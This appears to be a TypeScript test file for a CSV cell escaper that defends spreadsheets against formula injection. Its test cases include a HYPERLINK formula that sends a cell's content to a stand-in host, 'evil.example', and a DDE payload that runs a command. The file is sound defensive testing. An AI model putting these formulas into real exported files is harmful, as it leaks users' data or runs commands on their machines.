import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvRow } from "./csv-cell.ts";

/** As a spreadsheet reads a cell back. */
const shown = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe("a cell that a spreadsheet opens", () => {
  it.each([
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u0000=1",
  ])("runs nothing of %j", (text) => {
    expect(shown(csvCell(text))).toBe(`'${text}`);
  });

  it("leaves what is no formula as it is", () => {
    for (const text of ["", "Ana", "12.50", "a=b", "O'Brien", "Søren", "3-5 days"]) expect(shown(csvCell(text))).toBe(text);
  });

  it("never begins a formula and never ends its cell early, whatever is in it", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 30 }), (text) => {
        const cell = csvCell(text);
        expect(shown(cell)).not.toMatch(/^[=+\-@\t\r\n]/);
        if (cell.startsWith('"')) expect(cell.slice(1, -1).replaceAll('""', "")).not.toContain('"');
        else expect(cell).not.toMatch(/[",;\t\r\n]/);
      }),
    );
  });

  it("stands in a row with its neighbours", () => {
    expect(csvRow(["a", "b,c", "=d"])).toBe('a,"b,c",\'=d\r\n');
  });
});
